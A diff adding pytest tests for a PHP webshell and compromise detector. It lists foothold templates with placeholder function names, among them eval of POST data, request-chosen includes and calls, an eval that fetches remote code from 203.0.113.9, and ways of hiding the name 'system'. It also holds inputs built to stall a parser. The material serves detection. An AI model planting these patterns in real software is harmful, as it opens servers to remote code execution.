@@ -1,0 +1,100 @@
+"""What the syntax tree shows of PHP. Words that run something stand in the tests as placeholders, put in in memory."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from auditor.compromise import certainty, judge
+from auditor.compromise.php import flow, nodes
+from auditor.compromise.rules import engine
+from benchmarks import footholds
+
+RULES = engine.load()
+
+
+def hits(template: str) -> dict[str, str]:
+    found = flow.judged(footholds.whole(f"<?php {template}").encode("latin-1"))
+    return {hit.rule: hit.level for hit in reversed(found)}
+
+
+def test_nearly_every_foothold_is_an_alarm_and_none_is_missed() -> None:
+    found = [certainty.weighed(judge.judged(content, "x.php", RULES)) for _family, content in footholds.all_of_them()]
+    alarms = [one for one in found if one is not None and one.certainty in ("exact", "strong")]
+    assert len(found) >= 120
+    assert None not in found
+    assert len(alarms) / len(found) >= 0.97
+
+
+@pytest.mark.parametrize(
+    "template, rule, level",
+    [
+        ("$a = §POST§['x']; $b = base64_decode($a); @§E§($b);", "evaluated", "exact"),
+        ("function r($x) { §E§($x); } r(§POST§['c']);", "evaluated", "exact"),
+        ("§U§(§GET§['a'], §GET§['b']);", "chosen_call", "exact"),
+        ("§I§ §GET§['p'];", "chosen_include", "exact"),
+        ("§I§ 'pages/' . §GET§['p'] . '.php';", "chosen_include", "hint"),
+        ("$x = §GET§['p']; if (in_array($x, ['a', 'b'])) { §I§ $x; }", "chosen_include", "hint"),
+        ("switch (§GET§['p']) { case 'a': §I§ §GET§['p']; }", "chosen_include", "hint"),
+        ("§S§('ls ' . §GET§['a']);", "command", "hint"),
+        ("§E§(file_get_contents('http://203.0.113.9/x'));", "evaluated", "sure"),
+        ("§W§('x.php', §POST§['c']);", "written_program", "exact"),
+        ("§M§(§FILES§['a']['tmp_name'], 'up/' . §FILES§['a']['name']);", "uploaded_as_named", "hint"),
+    ],
+)
+def test_how_sure_it_is_depends_on_who_has_the_say(template: str, rule: str, level: str) -> None:
+    assert hits(template).get(rule) == level
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "$x = intval(§GET§['a']); §I§ 'p' . $x . '.php';",
+        "$o = (int) §GET§['a']; $f = 'page_' . $o; echo strlen(§POST§['x']);",
+        "§S§('ls ' . escapeshellarg(§GET§['a']));",
+        "$c = ['a' => 'f']; if (isset(§GET§['x'])) { $c['b'] = §GET§['x']; } §U§($c['a'], 1);",
+        "§I§ __DIR__ . '/a.php'; §E§('return 1;');",
+        "$view = 'list'; §I§ $view . '.php'; echo htmlspecialchars(§GET§['q']);",
+        "usort($rows, function ($a, $b) { return $a <=> §GET§['order']; });",
+    ],
+)
+def test_what_applications_do_every_day_is_no_sign(template: str) -> None:
+    assert set(hits(template).values()) <= {"hint"}
+
+
+def test_constants_are_worked_out_however_they_are_hidden() -> None:
+    for hidden in (
+        "strrev«'metsys')",
+        "'sys' · 'tem'",
+        "«'!'^'@') · 'ss' · 'ert'",
+        "implode«'', ['s', 'y', 'stem'])",
+        "base64_decode«'c3lzdGVt')",
+        "strtr«'abcfde', ['a' => 's', 'b' => 'y', 'c' => 's', 'f' => 't', 'd' => 'e', 'e' => 'm'])",
+    ):
+        found = hits(f"$f = {hidden}; $f«§GET§['c']);")
+        assert found, hidden
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        b"<?php " + b"(" * 20_000 + b"1" + b")" * 20_000 + b";",
+        b"<?php " + b"[" * 20_000,
+        b"<?php $a = " + b"'x' . " * 20_000 + b"'y';",
+        b"<?php " + b"if(1){" * 10_000,
+        b"<?php $x = " + b"!" * 50_000 + b"1;",
+        b"<?php " + b"function f(){" * 5_000,
+        b"<?php " + bytes(range(256)) * 200,
+    ],
+    ids=["parentheses", "brackets", "concatenation", "blocks", "signs", "functions", "bytes"],
+)
+def test_code_that_is_made_to_hurt_costs_little(hostile: bytes) -> None:
+    began = time.process_time()
+    assert isinstance(flow.judged(hostile), tuple)
+    assert time.process_time() - began < 2
+
+
+def test_more_than_a_megabyte_is_not_read_as_a_tree() -> None:
+    with pytest.raises(nodes.TooLarge):
+        nodes.of(b"<?php " + b" " * nodes.MAX_BYTES)
